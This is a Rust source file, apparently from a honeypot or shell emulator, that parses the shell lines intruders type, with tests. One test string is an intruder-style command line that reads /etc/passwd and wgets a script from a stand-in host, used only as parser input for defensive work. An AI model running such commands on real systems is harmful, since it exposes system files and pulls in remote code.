//! A small sans-IO parser for the shell lines intruders type: words with quotes and
//! escapes, `$VAR` expansion, pipelines, `;`, `&`, `&&`, `||`, `#` comments and the
//! common redirections. Anything it does not know stays a literal word.

/// How a pipeline is joined to the one before it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Connector {
    /// `;`, `&`, a newline, or the first pipeline.
    Always,
    /// `&&`
    IfOk,
    /// `||`
    IfFailed,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Target {
    File(String),
    /// `>&2`, `2>&1`
    Fd(u8),
}

/// `fd> target`, `fd>> target` or `< target` (fd 0).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Redirect {
    pub fd: u8,
    pub target: Target,
    pub append: bool,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Simple {
    pub argv: Vec<String>,
    pub redirects: Vec<Redirect>,
}

pub(crate) type Pipeline = Vec<Simple>;

/// Most bytes expansion may make in one [`parse`] (a line is already capped; this bounds
/// `$VAR` repeated thousands of times). The interpreter passes the room left in the
/// line's [`super::budget::Budget`] to [`parse_bounded`] instead, so that re-parsing
/// (`sh -c`, each list part) cannot multiply it.
const MAX_EXPANDED: usize = 64 * 1024;

/// What variable expansion did during one parse.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct Expansion {
    /// Bytes the expansions produced.
    pub bytes: usize,
    /// An expansion did not fit the room given and was left out.
    pub cut: bool,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(String),
    Op(&'static str),
}

/// Splits a line into tokens; `var` answers `$NAME`, `${NAME}`, `$?`, `$$`. Expansions
/// together produce at most `room` bytes; one that does not fit is left out and marked.
/// The loop is flat (no recursion), so no input can deepen the stack.
fn tokenize(line: &str, var: &dyn Fn(&str) -> String, room: usize) -> (Vec<Tok>, Expansion) {
    let mut toks = Vec::new();
    let mut word = String::new();
    // Whether the current word exists even if empty (`""`).
    let mut in_word = false;
    let mut quoted = false;
    let mut exp = Expansion::default();
    let mut chars = line.chars().peekable();
    let push_var = |name: &str, word: &mut String, exp: &mut Expansion| {
        if exp.cut {
            return;
        }
        let v = var(name);
        if exp.bytes + v.len() <= room {
            exp.bytes += v.len();
            word.push_str(&v);
        } else {
            exp.cut = true;
        }
    };
    macro_rules! end_word {
        () => {
            if in_word {
                toks.push(Tok::Word(std::mem::take(&mut word)));
                in_word = false;
                quoted = false;
            }
        };
    }
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' | '\r' | '\n' => end_word!(),
            '#' if !in_word => break,
            '\\' => {
                in_word = true;
                if let Some(n) = chars.next() {
                    word.push(n);
                }
            }
            '\'' => {
                in_word = true;
                quoted = true;
                for n in chars.by_ref() {
                    if n == '\'' {
                        break;
                    }
                    word.push(n);
                }
            }
            '"' => {
                in_word = true;
                quoted = true;
                while let Some(n) = chars.next() {
                    match n {
                        '"' => break,
                        '\\' => match chars.peek() {
                            Some(&e @ ('"' | '\\' | '$' | '`')) => {
                                word.push(e);
                                chars.next();
                            }
                            _ => word.push('\\'),
                        },
                        '$' => {
                            if let Some(name) = var_name(&mut chars) {
                                push_var(&name, &mut word, &mut exp);
                            } else {
                                word.push('$');
                            }
                        }
                        n => word.push(n),
                    }
                }
            }
            '$' => {
                in_word = true;
                if let Some(name) = var_name(&mut chars) {
                    push_var(&name, &mut word, &mut exp);
                } else {
                    word.push('$');
                }
            }
            ';' => {
                end_word!();
                toks.push(Tok::Op(";"));
            }
            '&' => {
                end_word!();
                match chars.peek() {
                    Some('&') => {
                        chars.next();
                        toks.push(Tok::Op("&&"));
                    }
                    Some('>') => {
                        chars.next();
                        toks.push(Tok::Op("&>"));
                    }
                    _ => toks.push(Tok::Op(";")),
                }
            }
            '|' => {
                end_word!();
                if chars.peek() == Some(&'|') {
                    chars.next();
                    toks.push(Tok::Op("||"));
                } else {
                    toks.push(Tok::Op("|"));
                }
            }
            '<' => {
                end_word!();
                toks.push(Tok::Op("<"));
            }
            '>' => {
                // `2>` and `1>`: a lone digit right before is the descriptor.
                let fd = if in_word && !quoted && (word == "1" || word == "2") {
                    let fd = if word == "2" { 2 } else { 1 };
                    word.clear();
                    in_word = false;
                    fd
                } else {
                    end_word!();
                    1
                };
                let append = chars.peek() == Some(&'>');
                if append {
                    chars.next();
                }
                if chars.peek() == Some(&'&') {
                    chars.next();
                    let target = chars.next_if(|c| c.is_ascii_digit());
                    toks.push(Tok::Op(match (fd, target) {
                        (2, Some('1')) => "2>&1",
                        (1, Some('2')) => ">&2",
                        _ => ">&",
                    }));
                } else {
                    toks.push(Tok::Op(match (fd, append) {
                        (2, false) => "2>",
                        (2, true) => "2>>",
                        (_, false) => ">",
                        (_, true) => ">>",
                    }));
                }
            }
            c => {
                in_word = true;
                word.push(c);
            }
        }
    }
    if in_word {
        toks.push(Tok::Word(word));
    }
    (toks, exp)
}

fn var_name(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) -> Option<String> {
    match chars.peek()? {
        '?' | '$' | '#' | '0' => chars.next().map(String::from),
        '{' => {
            chars.next();
            let mut name = String::new();
            for c in chars.by_ref() {
                if c == '}' {
                    break;
                }
                if name.len() < 64 {
                    name.push(c);
                }
            }
            Some(name)
        }
        c if c.is_ascii_alphabetic() || *c == '_' => {
            let mut name = String::new();
            while let Some(&c) = chars.peek() {
                if !(c.is_ascii_alphanumeric() || c == '_') {
                    break;
                }
                chars.next();
                if name.len() < 64 {
                    name.push(c);
                }
            }
            Some(name)
        }
        _ => None,
    }
}

/// Parses one line into pipelines joined by connectors. A syntax error (`| x`, `;;`)
/// gives `Err` with the token bash would complain about.
pub(crate) fn parse(
    line: &str,
    var: &dyn Fn(&str) -> String,
) -> Result<Vec<(Connector, Pipeline)>, String> {
    parse_bounded(line, var, MAX_EXPANDED).map(|(p, _)| p)
}

/// [`parse`] with expansions limited to `room` bytes in all; says what they took.
pub(crate) fn parse_bounded(
    line: &str,
    var: &dyn Fn(&str) -> String,
    room: usize,
) -> Result<(Vec<(Connector, Pipeline)>, Expansion), String> {
    let (toks, exp) = tokenize(line, var, room);
    let mut out = Vec::new();
    let mut connector = Connector::Always;
    let mut pipeline: Pipeline = Vec::new();
    let mut cmd = Simple::default();
    let mut toks = toks.into_iter();
    while let Some(t) = toks.next() {
        match t {
            Tok::Word(w) => cmd.argv.push(w),
            Tok::Op(op @ (">" | ">>" | "2>" | "2>>" | "<" | "&>")) => {
                let Some(Tok::Word(target)) = toks.next() else {
                    return Err("newline".into());
                };
                let (fd, append) = match op {
                    ">" => (1, false),
                    ">>" => (1, true),
                    "2>" => (2, false),
                    "2>>" => (2, true),
                    "<" => (0, false),
                    _ => {
                        cmd.redirects.push(Redirect {
                            fd: 2,
                            target: Target::File(target.clone()),
                            append: false,
                        });
                        (1, false)
                    }
                };
                cmd.redirects.push(Redirect {
                    fd,
                    target: Target::File(target),
                    append,
                });
            }
            Tok::Op("2>&1") => cmd.redirects.push(Redirect {
                fd: 2,
                target: Target::Fd(1),
                append: false,
            }),
            Tok::Op(">&2") => cmd.redirects.push(Redirect {
                fd: 1,
                target: Target::Fd(2),
                append: false,
            }),
            Tok::Op(">&") => {}
            Tok::Op("|") => {
                if cmd.argv.is_empty() {
                    return Err("|".into());
                }
                pipeline.push(std::mem::take(&mut cmd));
            }
            Tok::Op(op) => {
                let next = match op {
                    "&&" => Connector::IfOk,
                    "||" => Connector::IfFailed,
                    _ => Connector::Always,
                };
                if cmd.argv.is_empty() && cmd.redirects.is_empty() {
                    // `a; ; b` and `&& x` are errors; a trailing `;` or `&` is fine.
                    if !pipeline.is_empty() || op != ";" || out.is_empty() {
                        return Err(op.into());
                    }
                } else {
                    pipeline.push(std::mem::take(&mut cmd));
                    out.push((connector, std::mem::take(&mut pipeline)));
                }
                connector = next;
            }
        }
    }
    if !cmd.argv.is_empty() || !cmd.redirects.is_empty() {
        pipeline.push(cmd);
    }
    if !pipeline.is_empty() {
        out.push((connector, pipeline));
    } else if connector != Connector::Always {
        return Err("newline".into());
    }
    Ok((out, exp))
}

/// Splits a line at its top-level `;`, `&`, `&&` and `||` without expanding anything,
/// so that each part is expanded only when it runs (`cd /x; echo $?` sees cd's status).
/// Call [`parse`] on the whole line first: this assumes the syntax is valid.
pub(crate) fn split_list(line: &str) -> Vec<(Connector, &str)> {
    let b = line.as_bytes();
    let mut out = Vec::new();
    let mut connector = Connector::Always;
    let mut start = 0;
    let mut i = 0;
    let mut word_start = true;
    while i < b.len() {
        let c = b[i];
        match c {
            b'\\' => {
                i += 2;
                word_start = false;
                continue;
            }
            b'\'' | b'"' => {
                let close = b[i + 1..].iter().position(|&x| x == c);
                i = close.map_or(b.len(), |p| i + 1 + p + 1);
                word_start = false;
                continue;
            }
            b'#' if word_start => break,
            b';' | b'&' | b'|' => {
                let next = b.get(i + 1).copied();
                let prev = i.checked_sub(1).map(|p| b[p]);
                let (len, next_conn) = match (c, next) {
                    (b'&', Some(b'&')) => (2, Connector::IfOk),
                    (b'|', Some(b'|')) => (2, Connector::IfFailed),
                    (b'|', _) => (0, connector),
                    // `&>` and `>&` are redirections.
                    (b'&', Some(b'>')) => (0, connector),
                    (b'&', _) if prev == Some(b'>') => (0, connector),
                    _ => (1, Connector::Always),
                };
                if len > 0 {
                    out.push((connector, &line[start..i]));
                    connector = next_conn;
                    i += len;
                    start = i;
                    word_start = true;
                    continue;
                }
            }
            _ => {}
        }
        word_start = c.is_ascii_whitespace() || c == b'|' || c == b'(';
        i += 1;
    }
    out.push((connector, &line[start..line.len().min(i.max(start))]));
    out.retain(|(_, s)| !s.trim().is_empty());
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn vars(name: &str) -> String {
        match name {
            "HOME" => "/root".into(),
            "?" => "0".into(),
            _ => String::new(),
        }
    }

    fn argvs(line: &str) -> Vec<Vec<Vec<String>>> {
        parse(line, &vars)
            .unwrap()
            .into_iter()
            .map(|(_, p)| p.into_iter().map(|s| s.argv).collect())
            .collect()
    }

    #[test]
    fn separators_and_pipes() {
        let p = parse(
            "uname -a; cat /etc/passwd && wget http://x/y.sh || echo no | wc -l &",
            &vars,
        )
        .unwrap();
        let conns: Vec<Connector> = p.iter().map(|(c, _)| *c).collect();
        assert_eq!(
            conns,
            vec![
                Connector::Always,
                Connector::Always,
                Connector::IfOk,
                Connector::IfFailed
            ]
        );
        assert_eq!(p[0].1[0].argv, vec!["uname", "-a"]);
        assert_eq!(p[3].1.len(), 2);
        assert_eq!(p[3].1[1].argv, vec!["wc", "-l"]);
    }

    #[test]
    fn quotes_escapes_and_variables() {
        assert_eq!(
            argvs(r#"echo 'a b' "c $HOME" d\ e $HOME/x "${HOME}" '$HOME' "q\"q" $? # comment"#),
            vec![vec![vec![
                "echo", "a b", "c /root", "d e", "/root/x", "/root", "$HOME", "q\"q", "0"
            ]]]
        );
        assert_eq!(argvs("echo \"\" x"), vec![vec![vec!["echo", "", "x"]]]);
        assert_eq!(argvs("echo $ $1"), vec![vec![vec!["echo", "$", "$1"]]]);
    }

    #[test]
    fn redirections() {
        let p = parse(
            "echo hi > /tmp/a 2>/dev/null; cat < /tmp/a >> b 2>&1",
            &vars,
        )
        .unwrap();
        let r = &p[0].1[0].redirects;
        assert_eq!(
            r[0],
            Redirect {
                fd: 1,
                target: Target::File("/tmp/a".into()),
                append: false
            }
        );
        assert_eq!(
            r[1],
            Redirect {
                fd: 2,
                target: Target::File("/dev/null".into()),
                append: false
            }
        );
        let r = &p[1].1[0].redirects;
        assert_eq!(r.len(), 3);
        assert!(r[1].append);
        assert_eq!(r[2].target, Target::Fd(1));
        // A quoted 2 is a word.
        let p = parse("echo '2'>f", &vars).unwrap();
        assert_eq!(p[0].1[0].argv, vec!["echo", "2"]);
    }

    #[test]
    fn syntax_errors() {
        assert_eq!(parse("| x", &vars), Err("|".into()));
        assert_eq!(parse("a &&", &vars), Err("newline".into()));
        assert_eq!(parse("a > ", &vars), Err("newline".into()));
        assert!(parse("a;", &vars).is_ok());
        assert!(parse("", &vars).unwrap().is_empty());
        assert!(parse("   # only a comment", &vars).unwrap().is_empty());
    }

    #[test]
    fn expansion_is_bounded() {
        let big = |_: &str| "x".repeat(4096);
        let line = "$A".repeat(2000);
        let p = parse(&line, &big).unwrap();
        assert!(p[0].1[0].argv[0].len() <= MAX_EXPANDED);
    }

    #[test]
    fn split_list_keeps_redirections_and_quotes() {
        let parts = split_list("cd /x; echo $? && a 2>&1 | b &> f || 'c;d' \\; e & f # g; h");
        let texts: Vec<&str> = parts.iter().map(|(_, t)| t.trim()).collect();
        assert_eq!(
            texts,
            vec!["cd /x", "echo $?", "a 2>&1 | b &> f", "'c;d' \\; e", "f"]
        );
        let conns: Vec<Connector> = parts.iter().map(|(c, _)| *c).collect();
        assert_eq!(
            conns,
            vec![
                Connector::Always,
                Connector::Always,
                Connector::IfOk,
                Connector::IfFailed,
                Connector::Always
            ]
        );
    }

    /// The tokenizer, the parser and the list splitter are flat loops: input nested a
    /// thousand times deep (`$( $( …`, subshells, quotes, braces) is just characters.
    #[test]
    fn nesting_in_the_input_does_not_deepen_the_stack() {
        for unit in ["$(", "(", "`", "\"'", "${", "$($(\"", "{", "<(", "\\"] {
            let line = unit.repeat(64 * 1024 / unit.len());
            let _ = parse(&line, &vars);
            let _ = split_list(&line);
        }
        let deep = format!("{}x{}", "$(".repeat(30_000), ")".repeat(30_000));
        assert!(parse(&deep, &vars).is_ok());
    }

    #[test]
    fn bounded_parse_reports_a_cut() {
        let big = |_: &str| "x".repeat(100);
        let (p, e) = parse_bounded("echo $A $A $A", &big, 250).unwrap();
        assert_eq!(
            e,
            Expansion {
                bytes: 200,
                cut: true
            }
        );
        let x = "x".repeat(100);
        assert_eq!(p[0].1[0].argv, vec!["echo", &x, &x, ""]);
        let (_, e) = parse_bounded("echo $A", &big, 0).unwrap();
        assert!(e.cut);
        let (_, e) = parse_bounded("echo $A", &|_| String::new(), 0).unwrap();
        assert!(!e.cut);
    }

    proptest! {
        #[test]
        fn split_never_panics(line in ".{0,200}") {
            let _ = split_list(&line);
        }

        #[test]
        fn never_panics(line in ".{0,200}") {
            let _ = parse(&line, &vars);
        }
    }
}
